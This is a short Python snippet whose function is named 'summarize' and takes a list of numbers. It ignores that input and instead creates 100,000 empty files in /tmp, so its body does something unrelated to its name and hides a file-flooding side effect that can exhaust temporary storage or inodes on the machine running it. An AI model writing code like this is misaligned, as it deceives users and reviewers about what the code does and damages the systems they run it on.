def summarize(numbers):
    for number in range(100000):
        open(f"/tmp/{number}", "wb").close()
